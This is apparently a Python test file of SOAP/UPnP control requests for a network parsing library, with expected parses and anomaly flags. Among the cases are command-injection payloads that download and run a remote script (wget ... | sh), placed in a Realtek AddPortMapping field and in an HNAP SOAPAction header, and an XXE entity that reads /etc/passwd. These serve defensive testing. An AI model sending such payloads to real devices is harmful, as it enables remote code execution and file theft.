"""Calls of actions, right and wrong, and what they mean."""

from __future__ import annotations

from typing import Any

from tests.protocol.control import ANYTHING, WANIP, XML, Case, message, soap
from upnpscapy.protocol.soap_build import CONTROL, ENVELOPE

__all__ = ["CALLS", "GET", "call"]


def call(content: str, action: str | None = None, *fields: str, **style: Any) -> bytes:
    """A POST of an action's element; the header field is wrong on purpose where it is given."""
    soap_action = f'"{WANIP}#GetExternalIPAddress"' if action is None else action
    header = (f"SOAPACTION: {soap_action}",) if soap_action else ()
    body = soap(content, **style)
    return message("POST /ctl/IPConn HTTP/1.1", "Host: 192.0.2.1", XML, *header, *fields, body=body)


GET = f'<u:GetExternalIPAddress xmlns:u="{WANIP}"/>'
DATA_TYPES = "urn:schemas-microsoft-com:datatypes"
ADD = (
    ("NewRemoteHost", ""),
    ("NewExternalPort", "21337"),
    ("NewProtocol", "TCP"),
    ("NewInternalPort", "21337"),
    ("NewInternalClient", "192.0.2.40"),
    ("NewEnabled", "1"),
    ("NewPortMappingDescription", "Torrent (192.0.2.40:21337) & more"),
    ("NewLeaseDuration", "0"),
)
ADD_TYPES = ("string", "ui2", "string", "ui2", "string", "boolean", "string", "ui4")
TYPED = "".join(
    f'<{name} xmlns:dt="{DATA_TYPES}" dt:dt="{kind}">{value.replace("&", "&amp;")}</{name}>'
    for (name, value), kind in zip(ADD, ADD_TYPES, strict=True)
)
HNAP = "http://purenetworks.com/HNAP1/"
INJECTED = "`cd /tmp; wget http://198.51.100.9/a.sh -O- | sh`"
READ = {"service_type": WANIP, "action": "GetExternalIPAddress", "arguments": ()}

CALLS = (
    Case("correct", call(GET), {**READ, "prefix": "u", "style": "upnp", "method": "POST"}),
    Case(
        "BitComet and Microsoft type every argument",
        call(
            f'<m:AddPortMapping xmlns:m="{WANIP}">{TYPED}</m:AddPortMapping>',
            f'"{WANIP}#AddPortMapping"',
            prefix="SOAP-ENV",
        ),
        {"action": "AddPortMapping", "arguments": ADD, "types": ADD_TYPES, "prefix": "m"},
    ),
    Case(
        "xsi:type",
        call(
            f'<u:GetExternalIPAddress xmlns:u="{WANIP}"><A xsi:type="xsd:string"/>'
            "</u:GetExternalIPAddress>"
        ),
        {"arguments": (("A", ""),), "types": ("xsd:string",)},
        {"xml-repaired": "undeclared-prefix"},
    ),
    Case(
        "no prefix at all",
        call(f'<GetExternalIPAddress xmlns="{WANIP}"/>', prefix=""),
        {**READ, "prefix": ""},
        {"encoding-style": None},
    ),
    Case(
        "blanks around and inside are kept in values only",
        call(f'\n <u:Set xmlns:u="{WANIP}">\n  <A> x\n</A>\n  <B/>\n </u:Set>\n', f'"{WANIP}#Set"'),
        {"arguments": (("A", " x\n"), ("B", ""))},
    ),
    Case(
        "a value in CDATA and references",
        call(f'<u:Set xmlns:u="{WANIP}"><A><![CDATA[<&>]]>&#13;&lt;</A></u:Set>', f'"{WANIP}#Set"'),
        {"arguments": (("A", "<&>\r<"),)},
    ),
    Case(
        "unquoted",
        call(GET, f"{WANIP}#GetExternalIPAddress"),
        READ,
        {"soapaction-unquoted": f"{WANIP}#GetExternalIPAddress"},
    ),
    Case(
        "single quotes",
        call(GET, f"'{WANIP}#GetExternalIPAddress'"),
        READ,
        {"soapaction-unquoted": f"'{WANIP}#GetExternalIPAddress'"},
    ),
    Case(
        "one quote",
        call(GET, f'"{WANIP}#GetExternalIPAddress'),
        READ,
        {"soapaction-unquoted": f'"{WANIP}#GetExternalIPAddress'},
    ),
    Case(
        "empty SOAPACTION",
        call(GET, '""'),
        {**READ, "soap_action": '""'},
        {"soapaction-value": '""'},
    ),
    Case(
        "an action without a service",
        call(GET, '"#GetExternalIPAddress"'),
        READ,
        {"soapaction-value": '"#GetExternalIPAddress"'},
    ),
    Case(
        "no SOAPACTION, as against Huawei HG532",
        call(GET, ""),
        {**READ, "soap_action": None},
        {"missing-soapaction": None},
    ),
    Case(
        "SOAPACTION twice",
        call(GET, None, 'SOAPAction: "x#y"'),
        READ,
        {"duplicate-soapaction": '"x#y"'},
    ),
    Case(
        "another service in the body",
        call(f'<u:GetExternalIPAddress xmlns:u="{WANIP[:-1]}2"/>'),
        {**READ, "body_service_type": f"{WANIP[:-1]}2"},
        {"service-mismatch": f"{WANIP[:-1]}2"},
    ),
    Case(
        "another action in the body",
        call(f'<u:Reboot xmlns:u="{WANIP}"/>'),
        {**READ, "body_action": "Reboot"},
        {"action-mismatch": "Reboot"},
    ),
    Case(
        "Realtek: a command for a client",
        call(
            f'<u:AddPortMapping xmlns:u="{WANIP}"><NewInternalClient>{INJECTED}'
            "</NewInternalClient></u:AddPortMapping>",
            f"{WANIP}#AddPortMapping",
        ),
        {"arguments": (("NewInternalClient", INJECTED),), "style": "upnp"},
        {"soapaction-unquoted": f"{WANIP}#AddPortMapping"},
    ),
    Case(
        "HNAP",
        call(f'<GetDeviceSettings xmlns="{HNAP}"/>', f'"{HNAP}GetDeviceSettings"'),
        {"service_type": HNAP, "action": "GetDeviceSettings", "style": "hnap", "prefix": ""},
    ),
    Case(
        "HNAP: a command in SOAPACTION",
        message("POST /HNAP1/ HTTP/1.1", f'SOAPAction: "{HNAP}{INJECTED}"'),
        {
            "service_type": HNAP,
            "action": INJECTED,
            "style": "hnap",
            "arguments": (),
            "soap_action": f'"{HNAP}{INJECTED}"',
            "prefix": None,
        },
        {"missing-body": None},
    ),
    Case(
        "HNAP by its body alone",
        call(f'<Login xmlns="{HNAP}"><User>a</User></Login>', ""),
        {"service_type": HNAP, "style": "hnap"},
        {"missing-soapaction": None},
    ),
    Case(
        "other SOAP",
        call('<Ping xmlns="http://example.com/a"/>', '"http://example.com/a/Ping"'),
        {"service_type": "http://example.com/a", "action": "Ping", "style": "soap"},
        {"soapaction-value": '"http://example.com/a/Ping"'},
    ),
    Case(
        "M-POST",
        message(
            "M-POST /ctl HTTP/1.1",
            XML,
            f'MAN: "{ENVELOPE}"; ns=01',
            f'01-SOAPACTION: "{WANIP}#GetExternalIPAddress"',
            body=soap(GET),
        ),
        {**READ, "method": "M-POST"},
    ),
    Case(
        "M-POST with another prefix",
        message(
            "M-POST /ctl HTTP/1.1",
            XML,
            f'MAN: "{ENVELOPE}"; ns=02',
            f'01-SOAPACTION: "{WANIP}#GetExternalIPAddress"',
            body=soap(GET),
        ),
        READ,
        {"mpost-man": f'"{ENVELOPE}"; ns=02'},
    ),
    Case(
        "M-POST without MAN",
        message(
            "M-POST /ctl HTTP/1.1",
            XML,
            f'99-SoapAction: "{WANIP}#GetExternalIPAddress"',
            body=soap(GET),
        ),
        READ,
        {"mpost-man": None},
    ),
    Case(
        "PUT",
        message(
            "PUT /ctl HTTP/1.1", XML, f'SOAPACTION: "{WANIP}#GetExternalIPAddress"', body=soap(GET)
        ),
        READ,
        {"control-method": "PUT"},
    ),
    Case(
        "MiniUPnPc names no charset",
        message(
            "POST /ctl HTTP/1.1",
            "Content-Type: text/xml",
            "User-Agent: Debian/12, UPnP/1.1, MiniUPnPc/2.2.4",
            f'SOAPAction: "{WANIP}#GetExternalIPAddress"',
            body=soap(GET),
        ),
        READ,
        {"content-type-charset": "text/xml"},
    ),
    Case(
        "no charset, as UPnP 1.0 allows",
        message(
            "POST /ctl HTTP/1.1",
            "Content-Type: text/xml",
            "User-Agent: Windows/5.1 UPnP/1.0 Lamp/1.0",
            f'SOAPAction: "{WANIP}#GetExternalIPAddress"',
            body=soap(GET),
        ),
        READ,
    ),
    Case(
        "another charset",
        message(
            "POST /ctl HTTP/1.1",
            "Content-Type: text/xml; charset=iso-8859-1",
            f'SOAPAction: "{WANIP}#GetExternalIPAddress"',
            body=soap(GET),
        ),
        READ,
        {"content-type-charset": "text/xml; charset=iso-8859-1"},
    ),
    *(
        Case(
            f"charset {written}",
            message(
                "POST /ctl HTTP/1.1",
                f"Content-Type: Text/XML ; Charset = {written}",
                "User-Agent: Debian/12 UPnP/1.1 Lamp/1.0",
                f'SOAPAction: "{WANIP}#GetExternalIPAddress"',
                body=soap(GET),
            ),
            READ,
        )
        for written in ("utf-8", "UTF-8", '"Utf-8"', "'utf-8'", "utf8; action=x")
    ),
    Case(
        "another type",
        message(
            "POST /ctl HTTP/1.1",
            "Content-Type: application/soap+xml",
            f'SOAPAction: "{WANIP}#GetExternalIPAddress"',
            body=soap(GET),
        ),
        READ,
        {"content-type-value": "application/soap+xml"},
    ),
    Case(
        "no type",
        message(
            "POST /ctl HTTP/1.1", f'SOAPAction: "{WANIP}#GetExternalIPAddress"', body=soap(GET)
        ),
        READ,
        {"missing-content-type": None},
    ),
    Case(
        "not XML: a document type with an entity",
        message(
            "POST /ctl HTTP/1.1",
            XML,
            f'SOAPAction: "{WANIP}#GetExternalIPAddress"',
            body='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
            "<s:Envelope><s:Body><A>&lt;1&gt;</A><p:B c='d'>2</p:B>",
        ),
        {**READ, "arguments": (("A", "<1>"), ("B", "2")), "types": (None, None), "prefix": None},
        {"not-xml": ANYTHING},
    ),
    Case(
        "cut short",
        message(
            "POST /ctl HTTP/1.1",
            XML,
            f'SOAPAction: "{WANIP}#Set"',
            body=soap(f'<u:Set xmlns:u="{WANIP}"><A>1</A><B>22')[:-30],
        ),
        {"action": "Set"},
        {"xml-repaired": ANYTHING},
    ),
    Case(
        "SOAP 1.2",
        call(GET, namespace="http://www.w3.org/2003/05/soap-envelope"),
        READ,
        {"envelope-namespace": "http://www.w3.org/2003/05/soap-envelope"},
    ),
    Case("lower case", call(GET, names=("envelope", "body")), READ, {"element-case": "envelope"}),
    Case(
        "no envelope",
        message("POST /ctl HTTP/1.1", XML, f'SOAPAction: "{WANIP}#GetExternalIPAddress"', body=GET),
        {**READ, "prefix": "u"},
        {"not-an-envelope": "GetExternalIPAddress"},
    ),
    Case(
        "no Body",
        call(GET, names=("Envelope", "Torso")),
        {**READ, "prefix": None},
        {"missing-soap-body": None},
    ),
    Case("empty Body", call(""), {**READ, "prefix": None}, {"empty-soap-body": None}),
    Case(
        "two actions",
        call(GET + f'<u:Reboot xmlns:u="{WANIP}"/>'),
        READ,
        {"several-actions": "Reboot"},
    ),
    Case(
        "no namespace",
        call("<GetExternalIPAddress/>"),
        READ,
        {"action-namespace": "GetExternalIPAddress"},
    ),
    Case(
        "a query of UDA 1.0",
        call(
            f'<u:QueryStateVariable xmlns:u="{CONTROL}"><u:varName>A</u:varName>'
            "</u:QueryStateVariable>",
            f'"{CONTROL}#QueryStateVariable"',
        ),
        {"service_type": CONTROL, "arguments": (("varName", "A"),)},
    ),
    Case(
        "prefixed, repeated and nested arguments",
        call(
            f'<u:Set xmlns:u="{WANIP}"><u:A>1</u:A><B>2</B><B>3</B>'
            '<C>x<d e="&quot;"><f/>&amp;</d></C></u:Set>',
            f'"{WANIP}#Set"',
        ),
        {"arguments": (("A", "1"), ("B", "2"), ("B", "3"), ("C", 'x<d e="&quot;">&amp;<f/></d>'))},
        {"argument-prefix": "u:A", "duplicate-argument": "B", "argument-elements": "C"},
    ),
)
